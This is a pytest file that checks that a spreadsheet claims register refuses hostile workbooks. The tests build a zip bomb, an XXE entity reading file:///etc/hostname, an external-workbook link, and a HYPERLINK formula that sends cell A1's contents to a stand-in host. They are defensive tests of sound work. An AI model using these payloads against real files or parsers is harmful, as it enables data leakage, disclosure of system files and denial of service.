"""Hostile workbooks where a register is wanted; what is written is in ``tests/exporting``."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from greenscan.errors import RegisterError
from greenscan.exporting.register import check_register, write_register
from greenscan.exporting.register import existing as existing_register
from tests.exporting.making import Reviewer, make_claim, report_of
from tests.reading.samples import altered

CLAIM = "We cut our emissions by 12 %."
_SHEET = "xl/worksheets/sheet1.xml"


@pytest.fixture
def register(tmp_path: Path) -> Path:
    path = tmp_path / "register.xlsx"
    write_register(path, [report_of(make_claim(CLAIM))])
    return path


def sheet_of(path: Path) -> bytes:
    with zipfile.ZipFile(path) as package:
        return package.read(_SHEET)


def test_a_zip_bomb_is_refused(register: Path) -> None:
    bomb = b"<x>" + b" " * (2**27 + 1) + b"</x>"
    register.write_bytes(_packed(register.read_bytes(), "xl/bomb.bin", bomb))
    assert register.stat().st_size < 2**20
    with pytest.raises(RegisterError, match="is damaged"):
        check_register(register)


def _packed(archive: bytes, name: str, content: bytes) -> bytes:
    stream = io.BytesIO(archive)
    with zipfile.ZipFile(stream, "a", zipfile.ZIP_DEFLATED) as package:
        package.writestr(name, content)
    return stream.getvalue()


def test_what_unpacks_to_more_than_the_limit_is_never_unpacked(
    register: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(existing_register, "_XML_LIMIT", 1_000)
    monkeypatch.setattr(zipfile.ZipFile, "read", lambda *_: pytest.fail("unpacked"))
    with pytest.raises(RegisterError):
        check_register(register)


@pytest.mark.parametrize("entity", ["'a'", "SYSTEM 'file:///etc/hostname'"])
def test_entities_are_refused(register: Path, entity: str) -> None:
    start = f"<!DOCTYPE worksheet [<!ENTITY x {entity}>]>".encode()
    content = sheet_of(register).replace(b"<worksheet", start + b"<worksheet", 1)
    register.write_bytes(altered(register.read_bytes(), {_SHEET: content}))
    with pytest.raises(RegisterError, match="is damaged"):
        check_register(register)


def test_a_link_to_another_workbook_is_not_followed(register: Path) -> None:
    reviewer = Reviewer(register)
    reviewer.enter(CLAIM, Note="='http://192.0.2.1/[x.xlsx]S'!A1")
    reviewer.save()
    write_register(register, [report_of(make_claim(CLAIM))])  # conftest refuses a connection
    assert Reviewer(register).read(CLAIM, "Note") == "='http://192.0.2.1/[x.xlsx]S'!A1"


def test_a_formula_in_a_column_of_ours_is_written_over_as_text(register: Path) -> None:
    text = '=HYPERLINK("http://192.0.2.1/"&A1,"open")'
    reviewer = Reviewer(register)
    reviewer.enter(CLAIM, Verdict="=1+1")
    reviewer.save()
    write_register(register, [report_of(make_claim(CLAIM), make_claim(text))])
    cells = [
        cell
        for row in load_workbook(register)["Claims"].iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert not cells
    assert Reviewer(register).read(CLAIM, "Verdict") == "vague"
    assert Reviewer(register).read(text, "Quote") == text
